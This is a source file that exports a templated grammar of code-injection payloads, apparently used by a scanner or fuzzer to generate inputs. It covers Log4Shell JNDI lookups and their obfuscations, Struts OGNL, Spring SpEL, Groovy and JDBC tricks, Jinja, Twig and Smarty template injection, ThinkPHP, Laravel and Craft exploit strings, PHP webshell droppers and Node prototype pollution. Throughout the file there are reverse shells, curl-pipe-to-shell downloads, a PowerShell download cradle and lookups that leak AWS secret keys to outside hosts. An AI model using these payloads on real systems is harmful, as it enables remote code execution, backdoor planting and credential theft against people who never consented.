/** Code, template and object injection: PHP, Java, .NET, Node, Python, Ruby, Perl, templates, deserialisation, SSI, XSLT. */
export const CODE = String.raw`
cmd: 3× id
  2× whoami
  2× cat /etc/passwd
  ls -la
  ls /
  uname -a
  hostname
  ifconfig
  env
  calc
  calc.exe
  ipconfig
  curl ‹addr›
  curl http://‹addr›/‹rnd›
  wget http://‹addr›/‹rnd›
  ping -c ‹#1-9› ‹addr›
  nslookup ‹host›
  touch /tmp/‹rnd›
  bash -c {echo,‹b64!bash -i >& /dev/tcp/‹ip›/‹port› 0>&1›}|{base64,-d}|{bash,-i}
  expr ‹#100-9999› + ‹#100-9999›
  echo ‹rnd›
  sleep ‹#1-20›
  cat /flag
  type C:\windows\win.ini
  curl http://‹addr›/‹~1-4›.sh|sh
  nc ‹ip› ‹port› -e /bin/sh
  powershell -enc ‹b64utf16!IEX(New-Object Net.WebClient).DownloadString('http://‹addr›/‹~1-4›')›
phpfn = system exec passthru shell_exec popen proc_open assert eval phpinfo pcntl_exec call_user_func file_get_contents var_dump print_r readfile show_source highlight_file md5
phpsink = system exec passthru shell_exec assert eval
gvar = GET POST REQUEST COOKIE

code/jndi [value,header] 4: §{jndi:‹jscheme›://‹addr›/‹jpath›}
  2× §{jndi:‹jscheme›://§{‹hostName¦env:‹~3-6›¦sys:java.version¦env:AWS_SECRET_ACCESS_KEY¦sys:user.name¦java:version¦env:USER¦hostName}.§{env:PATH›}.‹host›/‹jpath›}
  §{‹jhid›:‹jscheme›://‹addr›/‹jpath›}
  §{§{::-j}§{::-n}§{::-d}§{::-i}:§{::-‹r}§{::-m}§{::-i¦l}§{::-d}§{::-a}§{::-p›}://‹addr›/‹jpath›}
  §{§{lower:j}§{upper:n}§{lower:d}§{upper:i}:‹jscheme›://‹addr›/‹jpath›}
  §{§{lower:jn}di:‹jscheme›://‹addr›/‹jpath›}
  §{§{env:‹^2-6›:-j}ndi§{env:‹^2-6›:-:}§{env:‹^2-6›:-l}dap§{env:‹^2-6›:-:}//‹addr›/‹jpath›}
  §{j§{k8s:k5:-ND}i§{sd:k5:-:}‹jscheme›://‹addr›/‹jpath›}
  §{j§{::-n}di:‹jscheme›://‹addr›/‹jpath›}
  §{jndi:‹jscheme›://127.0.0.1#‹host›:‹port›/‹jpath›}
  §{§{date:'j'}§{date:'n'}§{date:'d'}§{date:'i'}:§{date:'l'}dap://‹addr›/‹jpath›}
  §{jnd§{upper:ı}:‹jscheme›://‹addr›/‹jpath›}
  ‹word›=§{jndi:‹jscheme›://‹addr›/‹jpath›}
  Mozilla/5.0 §{jndi:‹jscheme›://‹addr›/‹jpath›}
  §{jndi:ldap://‹ip›:‹port›/Basic/Command/Base64/‹b64!‹cmd››}
  t('§{§{env:NaN:-j}ndi§{env:NaN:-:}§{env:NaN:-l}dap§{env:NaN:-:}//‹addr›/‹jpath›}')
  §{‹env¦sys¦java¦ctx¦main¦bundle›:‹AWS_SECRET_ACCESS_KEY¦user.name¦version¦PATH¦java.vm.version¦DB_PASSWORD›}
  §{script:javascript:java.lang.Runtime.getRuntime().exec('‹cmd›')}
  §{‹url¦dns›:‹UTF-8:http://‹addr›/¦address|‹host››}
jscheme: 6× ldap
  2× rmi
  2× dns
  ldaps
  iiop
  corba
  nis
  http
jpath: ‹~1-6›
  ‹rnd›
  Exploit
  ‹^1›‹~3-8›
  Basic/‹TomcatEcho¦Dnslog/‹~2-6›¦ReverseShell/‹ip›/‹port››
  TomcatBypass/Command/Base64/‹b64!‹cmd››
  ∅
jhid: §{lower:j}ndi
  j§{lower:n}di
  jn§{lower:d}i
  §{lower:j}§{lower:n}§{lower:d}i
  §{::-j}ndi
  §{env:‹~1-3›:-j}ndi
  §{sys:‹~1-3›:-j}ndi
  jndi§{lower::}
  j§{‹~1-4›:-n}di

code/ognl 3: %{‹ognl›}
  §{‹ognl›}
  (‹ognl›)
  ‹ognl›
  §{‹=a:‹#100-9999››*‹=b:‹#100-9999››}
  %{‹=a:‹#100-9999››+‹=b:‹#100-9999››}
  \u0027+{‹ognlu›}+\u0027
  redirect:§{‹ognl›}
  action:%{‹ognl›}
  ‹word›%{‹ognl›}.multipart/form-data
ognl: (#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='‹cmd›').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))
  #a=(new java.lang.ProcessBuilder(new java.lang.String[]{"‹/bin/sh¦cmd›","‹-c¦/c›","‹cmd›"})).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[‹#500-50000›],#d.read(#e),#f=#context.get("com.opensymphony.xwork2.dispatcher.HttpServletResponse"),#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()
  #context["com.opensymphony.xwork2.dispatcher.HttpServletResponse"].addHeader("‹^1›-‹~3-8›",‹#100-9999›*‹#100-9999›)
  #‹~1-3›=@java.lang.Runtime@getRuntime().exec("‹cmd›")
  @java.lang.Runtime@getRuntime().exec('‹cmd›')
  @org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('‹cmd›').getInputStream(),'utf-8')
  #a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("‹cmd›").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a)
  Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null).setHeader("‹^1-3›",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("‹js2›"))
  #_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Runtime@getRuntime().exec("‹cmd›")
  #_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext@getResponse(),#w=#res.getWriter(),#w.print(‹#100-9999›*‹#100-9999›),#w.close()
  #request['.KEY_velocity.struts2.context'].internalGet('ognl').findValue(#parameters.‹~1›,{})
  @java.lang.System@getProperty('‹user.dir¦os.name¦java.version›')
  #application.get('org.apache.tomcat.InstanceManager').newInstance('‹org.apache.commons.collections.BeanMap¦freemarker.template.utility.Execute›')
  new freemarker.template.utility.Execute().exec({"‹cmd›"})
ognlu: Class.forName(\u0027javax.script.ScriptEngineManager\u0027).newInstance().getEngineByName(\u0027JavaScript\u0027).eval(\u0027‹js2›\u0027)
  #request[\u0027.KEY_velocity.struts2.context\u0027].internalGet(\u0027ognl\u0027).findValue(#parameters.x,{})
js2: java.lang.Runtime.getRuntime().exec('‹cmd›')
  var s=new java.util.Scanner(java.lang.Runtime.getRuntime().exec('‹cmd›').getInputStream()).next();s
  new java.lang.ProcessBuilder['(java.lang.String[])'](['/bin/sh','-c','‹cmd›']).start()
code/spel 3: T(java.lang.Runtime).getRuntime().exec("‹cmd›")
  §{T(java.lang.Runtime).getRuntime().exec('‹cmd›')}
  #{T(java.lang.Runtime).getRuntime().exec("‹cmd›")}
  T(java.lang.Runtime).getRuntime().exec(new String[]{"/bin/sh","-c","‹cmd›"})
  T(org.springframework.cglib.core.ReflectUtils).defineClass('‹^1›‹~3-6›',T(org.springframework.util.Base64Utils).decodeFromString('yv66vgAAA‹*40-200›'),new javax.management.loading.MLet(new java.net.URL[0],T(java.lang.Thread).currentThread().getContextClassLoader())).doInject()
  #{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"‹cmd›"}).getInputStream()))}
  __§{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("‹cmd›").getInputStream()).next()}__::.x
  ‹word›[T(java.lang.Runtime).getRuntime().exec("‹cmd›")]=‹word›
  T(java.net.InetAddress).getByName("‹host›")
  #{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null).exec('‹cmd›')}
  §{"".getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("‹cmd›")}
  ''.class.forName('java.lang.Runtime').getRuntime().exec('‹cmd›')
  exec(java.lang.Runtime.getRuntime(),'‹cmd›')
  exec(java.lang.Runtime.getRuntime(),"‹cmd›")
  #{request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("‹cmd›")}
  #{session.setAttribute("‹~2-5›","".getClass())}
  §{facesContext.getExternalContext().setResponseHeader("‹~2-6›","‹rnd›")}
  new javax.script.ScriptEngineManager().getEngineByName('js').eval("‹js2›")
  §{''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("‹js2›")}
  ''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('‹js2›')
  ''.class.forName('java.lang.Runtime').getMethods()[‹#1-9›].invoke(''.class.forName('java.lang.Runtime')).exec('‹cmd›')
  §{applicationScope}
  §{pageContext.request.getSession().setAttribute("‹~1-3›",pageContext.request.getClass())}
  ‹word›' + T(java.lang.Thread).sleep(‹#1000-9000›) + '
  new java.lang.ProcessBuilder("‹cmd›").start()
  new java.io.BufferedReader(new java.io.InputStreamReader(new java.lang.ProcessBuilder({"‹cmd›"}).start().getInputStream())).readLine()
code/java-script 3: ‹println ¦return ¦def x=›"‹cmd›".execute().text
  '‹cmd›'.execute()
  ["sh","-c","‹cmd›"].execute().text
  def ‹=v:‹~1-5››='‹cmd›'.execute();‹=v›.waitFor();println ‹=v›.text
  Runtime.getRuntime().exec("‹cmd›")
  @groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("‹cmd›")})def x
  import groovy.transform.*;@ASTTest(value={assert Jenkins.getInstance()})class P{}
  def sout=new StringBuffer(),serr=new StringBuffer();def proc='‹cmd›'.execute();proc.consumeProcessOutput(sout,serr);proc.waitForOrKill(‹#500-9999›);println sout
  throw new Exception('‹cmd›'.execute().text);
  java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("‹cmd›").getText()
  new ProcessBuilder("/bin/sh","-c","‹cmd›").start().inputStream.text
  {"size":1,"script_fields":{"‹~2-6›":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"‹cmd›\").getText()"}}}
  String host="‹ip›";int port=‹port›;String cmd="/bin/sh";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);
  {"type":"javascript","function":"function(value){return java.lang.Runtime.getRuntime().exec('‹cmd›')}","":{"enabled":true}}
  var r=Java.type('java.lang.Runtime').getRuntime().exec('‹cmd›')
  Packages.java.lang.Runtime.getRuntime().exec("‹cmd›")
  java.lang.Runtime.getRuntime().exec("‹cmd›");
  CREATE ALIAS ‹^3-8› AS §§void e(String c) throws java.io.IOException{Runtime.getRuntime().exec(c);}§§
  jdbc:h2:mem:‹~3-6›;‹TRACE_LEVEL_SYSTEM_OUT=3;¦MODE=MSSQLServer;¦›INIT=RUNSCRIPT FROM 'http://‹addr›/‹~1-5›.sql'
  jdbc:h2:mem:‹~3-6›;init=CREATE TRIGGER ‹~3-5› BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS §§//javascript⏎java.lang.Runtime.getRuntime().exec("‹cmd›")§§
  jdbc:mysql://‹addr›/‹~3-5›?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor
  jdbc:postgresql://‹addr›/‹~2-5›?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://‹addr›/‹~1-4›.xml
  bsh.script=exec("‹cmd›");
code/template-java 3: <#assign ‹=v:‹~1-5››="freemarker.template.utility.Execute"?new()>§{‹=v›("‹cmd›")}
  §{"freemarker.template.utility.Execute"?new()("‹cmd›")}
  [#assign ‹=v:‹~1-5››='freemarker.template.utility.Execute'?new()]§{‹=v›('‹cmd›')}
  <#assign value="freemarker.template.utility.ObjectConstructor"?new()>§{value("java.lang.ProcessBuilder","‹cmd›").start()}
  #set(§‹=v:‹~1-3››='')#set(§rt=§‹=v›.class.forName('java.lang.Runtime'))#set(§ex=§rt.getRuntime().exec('‹cmd›'))§ex.waitFor()
  #set(§e="e")§e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("‹cmd›")
  #set($x='') #set(§rt=§x.class.forName('java.lang.Runtime')) #set(§chr=§x.class.forName('java.lang.Character')) #set(§str=§x.class.forName('java.lang.String')) #set(§ex=§rt.getRuntime().exec('‹cmd›')) §ex.waitFor() #set(§out=§ex.getInputStream()) #foreach(§i in [1..§out.available()])§str.valueOf(§chr.toChars(§out.read()))#end
  #set(§a=‹#2-999›*‹#2-999›)§a
  §class.inspect("java.lang.Runtime").type.getRuntime().exec("‹cmd›").waitFor()
  {{''.getClass().forName('java.lang.Runtime').getRuntime().exec('‹cmd›')}}
  {% set cmd = '‹cmd›' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}
  {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('‹cmd›').waitFor() }}
  {{async}}{{groovy}}println("‹cmd›".execute().text){{/groovy}}{{/async}}
  }}}{{async async=false}}{{groovy}}‹println(‹#10-999›+‹#10-999›)¦"‹cmd›".execute()›{{/groovy}}{{/async}}
  <%= Runtime.getRuntime().exec("‹cmd›") %>
  §{product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(" ")}
  [[§{T(java.lang.Runtime).getRuntime().exec('‹cmd›')}]]
  <xsl:value-of select="rt:exec(rt:getRuntime(),'‹cmd›')"/>
code/template-probe 4: ‹tl›‹=a:‹#2-9999››*‹=b:‹#2-9999››‹tr›
  {{‹#2-999›*'‹#2-99›'}}
  {{‹=a:‹#2-99››*‹=a›}}
  §{‹#2-999999›*‹#2-9999›}
  #{‹#2-9999›*‹#2-9999›}
  <%= ‹#2-9999›*‹#2-9999› %>
  §{{‹#2-9999›*‹#2-9999›}}
  #{{‹#2-9999›*‹#2-9999›}}
  *{‹#2-9999›*‹#2-9999›}
  @(‹#2-999›*‹#2-999›)
  {‹#2-9999›*‹#2-9999›}
  {php}echo ‹#2-9999›*‹#2-9999›;{/php}
  {{=‹#2-9999›*‹#2-9999›}}
  {%print(‹#2-9999›*‹#2-9999›)%}
  {{‹#2-9999›+‹#2-9999›}}‹~2-5›
  ‹word›{{‹#2-9999›*‹#2-9999›}}‹word›
  §{{<%[%'"}}%\.
  {{'‹~2-6›'|upper}}
  {{'‹~2-6›'.toUpperCase()}}
  {{ "‹~2-5›" ~ "‹~2-5›" }}
  [[‹#2-9999›*‹#2-9999›]]
  [[§{‹#2-9999›*‹#2-9999›}]]
  ~{‹#2-999›*‹#2-999›}
  {{range.constructor("return ‹#2-9999›*‹#2-9999›")()}}
tl: {{
  {{␠
  §{
  #{
  {%␠
  {
  <%=␠
  [[
  *{
  {{{
  %{
  <#assign a=
  #set(§x=
  {{print(
tr: }}
  2× }}
  ␠}}
  }
  ␠%}
  %>
  ]]
  }}}
code/template-python 4: {{‹pychain›}}
  {{ ‹pychain› }}
  {% if ‹pychain› %}‹~1›{% endif %}
  {% for ‹=x:‹~1›› in ().__class__.__base__.__subclasses__() %}{% if "warning" in ‹=x›.__name__ %}{{‹=x›()._module.__builtins__['__import__']('os').popen('‹cmd›').read()}}{%endif%}{%endfor%}
  {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval("__import__('os').popen('‹cmd›').read()") }}{% endif %}{% endfor %}
  {%set ‹=v:‹~1-3››=‹pychain›%}{{‹=v›}}
  {{config‹¦.items()¦.SECRET_KEY¦|pprint›}}
  {{‹self¦request¦session¦url_for¦get_flashed_messages¦settings.SECRET_KEY¦request.environ¦config.from_object('os')¦g.pop.__globals__¦debug›}}
  {{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('‹cmd›')|attr('read')()}}
  §{‹pychain›}
  <%import os;x=os.popen('‹cmd›').read()%>§{x}
  {% import os %}{{os.popen("‹cmd›").read()}}
  {%import os%}{{os.system('‹cmd›')}}
  {% debug %}
  {% load log %}{% get_admin_log ‹#1-99› as ‹=l:‹~2-6›› %}{% for ‹=v:‹~1-4›› in ‹=l› %}{{‹=v›.user.get_username}}‹ : ¦-¦ ›{{‹=v›.user.password}}{% endfor %}
  {% include request.GET.‹~2-6› %}
  {‹~3-6›.__init__.__globals__}
  §{self.module.cache.util.os.popen('‹cmd›').read()}
pychain: ''.__class__.__mro__[‹#1-2›].__subclasses__()[‹#30-500›]('‹cmd›',shell=True,stdout=-1).communicate()
  ''.__class__.__mro__[1].__subclasses__()
  ().__class__.__bases__[0].__subclasses__()[‹#30-500›].__init__.__globals__['‹os¦sys¦__builtins__›']‹.popen('‹cmd›').read()¦.system('‹cmd›')¦›
  config.__class__.__init__.__globals__['os'].popen('‹cmd›').read()
  self.__init__.__globals__.__builtins__.__import__('os').popen('‹cmd›').read()
  ‹cycler¦joiner¦namespace¦lipsum¦url_for¦get_flashed_messages¦dict¦x›.__init__.__globals__.os.popen('‹cmd›').read()
  lipsum.__globals__['os'].popen('‹cmd›').read()
  lipsum.__globals__.os.popen('‹cmd›').read()
  self._TemplateReference__context.‹cycler¦joiner¦namespace›.__init__.__globals__.os.popen('‹cmd›').read()
  request.application.__globals__.__builtins__.__import__('os')['popen']('‹cmd›')['read']()
  url_for.__globals__['current_app'].config
  [].__class__.__base__.__subclasses__()[‹#30-500›]
  ()|attr('__class__')|attr('__base__')|attr('__subclasses__')()
  ''['__class__']['__base__']['__subclasses__']()[‹#30-500›]
  get_flashed_messages.__globals__.__builtins__.open("/etc/passwd").read()
  (dict.mro()[-1].__subclasses__())[‹#30-500›]
code/template-php 3: {{‹twig›}}
  {{ ‹twig› }}
  {php}‹phpcall›{/php}
  {‹phpsink›('‹cmd›')}
  {if ‹phpcall2›}{/if}
  {‹Smarty_Internal_Write_File¦self›::‹writeFile(§SCRIPT_NAME,"<?php passthru(§_GET['‹~1-3›']); ?>",self::clearConfig())¦getStreamVariable("file:///etc/passwd")›}
  {§smarty.version}
  {§smarty.template_object->smarty->disableSecurity()->display('string:{‹phpsink›(\'‹cmd›\')}')}
  {math equation='("\163\171\163\164\145\155")("\‹#141-172›\144")'}
  @php(‹phpcall2›)
  @php ‹phpcall› @endphp
  {!! ‹phpcall2› !!}
  {{ ‹phpcall2› }}
  {pboot:if(‹phpcall2›)}‹~1›{/pboot:if}
  {if:‹phpcall2›}{end if}
  {dede:field name='‹~2-5›' runphp='yes'}‹phpcall›{/dede:field}
  {{self.env.registerUndefinedFilterCallback("‹phpsink›")}}{{self.env.getFilter("‹cmd›")}}
  {{_self.env.setCache("ftp://‹addr›")}}{{_self.env.loadTemplate("‹~3-8›")}}
  {var:‹~2-4›}{/var}{eval §_GET['‹~1-3›']}
  {{craft.app.view.evaluateDynamicContent('print(‹phpsink›("‹cmd›"));')}}
  §{@‹phpcall2›}
  §{‹phpcall2›}
  {§{‹phpcall2›}}
twig: ['‹cmd›']|‹filter¦map¦sort¦reduce›('‹phpsink›')
  ['‹cmd›','']|sort('‹phpsink›')|join
  [0]|reduce('‹phpsink›','‹cmd›')
  ['‹cmd›']|map('‹phpsink›')|join(',')
  {'<?php ‹phpcall›':'/var/www/html/‹~1-5›.php'}|map('file_put_contents')
  _self.env.registerUndefinedFilterCallback("‹phpsink›")
  '/etc/passwd'|file_excerpt(1,30)
  app.request.server.all|join(',')
  app.request.query.filter(0,'‹cmd›',1024,{'options':'‹phpsink›'})
  dump(app)
  source('/etc/passwd')
  include('/etc/passwd')
  _self
  _context|join
  constant('‹~3-8›::‹^3-8›')
phpcall: ‹phpcall2›;
  echo ‹phpcall2›;
  print(‹phpcall2›);
  die(‹phpcall2›);
  @‹phpcall2›;
  phpinfo();
  @eval(§_‹gvar›['‹*1-6›']);
  eval(base64_decode('‹b64!system("‹cmd›");›'));
  var_dump(‹phpcall2›);
phpcall2: ‹phpsink›('‹cmd›')
  ‹phpsink›("‹cmd›")
  ‹phpsink›(§_‹gvar›['‹*1-6›'])
  ‹phpsink›(§_‹gvar›["‹*1-6›"])
  phpinfo()
  md5(‹n›)
  md5('‹rnd›')
  shell_exec('‹cmd›')
  file_get_contents('/etc/passwd')
  file_put_contents('‹~2-6›.php',base64_decode('‹b64!<?php @eval(§_POST["‹~1-4›"]);›'))
  assert(§_‹gvar›[‹~1-3›])
  call_user_func('‹phpsink›','‹cmd›')
  array_map('‹phpsink›',['‹cmd›'])
  ´‹cmd›´
  print(md5(‹n›))
  str_rot13('‹~3-8›')(§_‹gvar›[0])
  create_function('','‹phpsink›(§_‹gvar›[‹#0-9›]);')
  die(md5(‹n›))
  include(§_‹gvar›[‹~1-3›])
  ('sys'.'tem')('‹cmd›')
  readfile('/etc/passwd')
  preg_replace('/.*/e','‹phpsink›("‹cmd›")','')
  scandir('/')
  chr(‹#97-122›).chr(‹#97-122›)
  show_source(__FILE__)
  pcntl_exec('/bin/sh',['-c','‹cmd›'])

code/php 4: <?php ‹phpcall› ?>
  <?php ‹phpcall›
  <?=‹phpcall2›?>
  <? ‹phpcall› ?>
  <?=´§_‹gvar›[‹#0-9›]´?>
  <script language="php">‹phpcall›</script>
  ';‹phpcall›//
  ';‹phpcall›#
  '.‹phpcall2›.'
  ".‹phpcall2›."
  ');‹phpcall›//
  ");‹phpcall›/*
  1;‹phpcall›
  ‹phpcall›
  ;‹phpcall›
  §{@print(‹phpcall2›)}
  §{@print(md5(‹n›))}\
  {§{‹phpcall2›}}
  ']);‹phpcall›//
  }‹phpcall›//
  );‹phpcall›die(
  1);‹phpcall›?>
  '^‹phpcall2›^'
  %0a‹phpcall›
  a'=>‹phpcall2›,'b
  ‹word›');‹phpcall›exit;('
  [phpcode]‹phpcall›[/phpcode]
  vars[0]=call_user_func_array&vars[1][0]=‹phpsink›&vars[1][1][]=‹cmd›
code/php-framework [value] 2: \think\app/invokefunction&function=call_user_func_array&vars[0]=‹phpfn›&vars[1][]=‹cmd›
  index/\think\app/invokefunction
  /Index/\think\app/invokefunction
  \think\Container/invokefunction&function=call_user_func&vars[0]=‹phpfn›&vars[1]=‹cmd›
  index/think\template\driver\file/write&cacheFile=‹~2-6›.php&content=<?php ‹phpcall› ?>
  _method=__construct&filter[]=‹phpsink›&method=get&get[]=‹cmd›
  index|think\view\driver\Php/display&content=<?php ‹phpcall›?>
  {"solution":"Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution","parameters":{"variableName":"‹~3-8›","viewFile":"‹phar://../storage/logs/laravel.log/‹~3›.txt¦php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|convert.base64-decode/resource=../storage/logs/laravel.log›"}}
  +config-create+/&/<?=‹phpcall2›?>+/tmp/‹~3-8›.php
  -d allow_url_include=1 -d auto_prepend_file=php://input
  %ADd allow_url_include=1 %ADd auto_prepend_file=php://input
  -d+auto_prepend_file=data://text/plain;base64,‹b64!<?php ‹phpcall›?>›
  {"widgetConfig[code]":"‹phpcall›"}
  ../../../../usr/local/lib/php/pearcmd&+config-create+/<?=‹phpcall2›?>+/var/www/html/‹~3-5›.php
  {"assetId":‹#1-20›,"handle":{"width":‹#1-999›,"height":‹#1-999›,"as hack":{"class":"craft\\behaviors\\FieldLayoutBehavior","__class":"GuzzleHttp\\Psr7\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}
  {"action":"conditions/render","configObject[class]":"‹craft\elements\conditions\ElementCondition¦\\yii\\rbac\\PhpManager›","config":"{\"name\":\"configObject\",\"as \":{\"class\":\"\\\\GuzzleHttp\\\\Psr7\\\\FnStream\",\"__construct()\":{\"methods\":{\"close\":\"‹phpfn›\"}}}}"}
  configObject[class]=craft\elements\conditions\ElementCondition&config={"name":"configObject","as ":{"class":"\\yii\\rbac\\PhpManager","__construct()":[{"itemFile":"/var/www/html/storage/logs/web.log"}]}}
  widgetConfig[code]=‹phpcall›
  subwidgets[0][template]=widget_php&subwidgets[0][config][code]=‹phpcall›
  mail[#markup]=‹cmd›&mail[#type]=markup&mail[#post_render][]=‹phpsink›
  ‹noun›[#‹lazy_builder][0¦post_render][¦access_callback¦submit][›]=‹phpsink›
code/key [key] 2: ‹noun›[#‹post_render][¦markup¦type¦lazy_builder][0¦lazy_builder][1][¦access_callback›]
  class.module.classLoader.resources.context.parent.pipeline.first.‹pattern¦suffix¦directory¦prefix¦fileDateFormat¦encoding›
  class.module.classLoader.URLs[0]
  class.classLoader.resources.context.parent.pipeline.first.pattern
  class['module']['classLoader'].resources.context.‹~3-9›
  ‹__proto__¦constructor[prototype]›[‹pollkey›]
  ‹__proto__¦constructor.prototype¦__proto__.__proto__›.‹pollkey›
  ‹__proto__¦constructor›[__proto__][‹pollkey›]
  __class__.__init__.__globals__.‹~3-10›
  __init__.__globals__.‹app.secret_key¦os.environ¦loader›
  (#_memberAccess['allowStaticMethodAccess']=true,#‹~1›=@java.lang.Runtime@getRuntime().exec('‹cmd›'))
  ('\u0023_memberAccess[\'allowStaticMethodAccess\']')(meh)
  method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,‹~1›
  redirect:§{‹ognl›}
  ‹word›[T(java.lang.Runtime).getRuntime().exec("‹cmd›")]
  <?php ‹phpcall›?>
  filter[]‹=¦›‹phpsink›
  spring.cloud.function.routing-expression:T(java.lang.Runtime).getRuntime().exec("‹cmd›")
  -d auto_prepend_file
  §{jndi:ldap://‹addr›/‹~1-3›}
pollkey = outputFunctionName polluted isAdmin shell NODE_OPTIONS execArgv argv0 env client escapeFunction type body status toString sourceURL block line compileDebug self settings view\u0020options data is_admin exec ‹~3-9› templateData main layout parent
code/pollution [body-json] 2: {"__proto__":{"‹pollkey›":‹pollval›}}
  {"constructor":{"prototype":{"‹pollkey›":‹pollval›}}}
  {"‹word›":"‹word›","__proto__":{"‹pollkey›":‹pollval›,"‹pollkey›":‹pollval›}}
  {"__proto__.‹pollkey›":‹pollval›}
  {"‹noun›":{"__proto__":{"‹pollkey›":‹pollval›}}}
  [{"__proto__":{"‹pollkey›":‹pollval›}}]
  {"__class__":{"__init__":{"__globals__":{"‹~3-9›":‹pollval›}}}}
  {"then":"§1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\"then\":\"§B‹%1-4›\"}","_response":{"_prefix":"‹nodecall›;","_chunks":"§Q‹#1-9›","_formData":{"get":"§1:constructor:constructor"}}}
pollval: true
  "‹rnd›"
  "‹~1›;‹nodecall›;s"
  "--require /proc/self/environ"
  "/proc/self/exe"
  {"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":"NumberLiteral","value":"‹nodecall›"}]}]}
  "process.mainModule.require('child_process').execSync('‹cmd›')"
  ‹n›
code/node 4: ‹nodecall›
  ;‹nodecall›
  ';‹nodecall›;'
  ');‹nodecall›//
  {{‹nodecall›}}
  §{‹nodecall›}
  #{‹nodecall›}
  "+‹nodecall›+"
  <%= ‹nodecall› %>
  (function(){return ‹nodecall›})()
  res.end(‹nodecall›)
  {"rce":"_§§ND_FUNC§§_function(){‹nodecall›}()"}
  _§§ND_FUNC§§_function(){return ‹nodecall›}()
  {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.‹sub¦big¦bold¦link› "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return ‹nodecall›"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
  #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('‹cmd›')}()}
  {{range.constructor("return ‹nodecall›")()}}
  {{constructor.constructor('return ‹nodecall›')()}}
  ‹while(1){}¦for(;;){}¦process.exit()¦process.kill(process.pid)¦res.end(require('fs').readdirSync('.').toString())›
  = ‹nodecall›
  - var x=‹nodecall›
  ⏎=global.process.mainModule.require('child_process').execSync('‹cmd›')
  new Function("return ‹nodecall›")()
  {{$on.constructor('‹nodecall›')()}}
  {"expression":"={{(function(){return ‹nodecall›})()}}"}
  this.constructor.constructor("return process")().mainModule.require("child_process").execSync("‹cmd›").toString()
  const cp=require('child_process');cp.exec('‹cmd›',(e,o)=>{require('http').get('http://‹addr›/?'+o)})
  (()=>{const{execSync}=require('child_process');return execSync('‹cmd›').toString()})()
nodecall: require('child_process').‹exec¦execSync¦spawnSync›('‹cmd›')‹¦.toString()›
  require("child_process").execSync("‹cmd›")
  global.process.mainModule.require('child_process').execSync('‹cmd›')‹¦.toString()›
  process.mainModule.require('child_process').‹exec¦execSync›('‹cmd›')
  this.process.mainModule.require('child_process').execSync('‹cmd›')
  global.process.mainModule.constructor._load('child_process').execSync('‹cmd›')
  process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','‹cmd›']})
  require('fs').readFileSync('/etc/passwd','utf8')
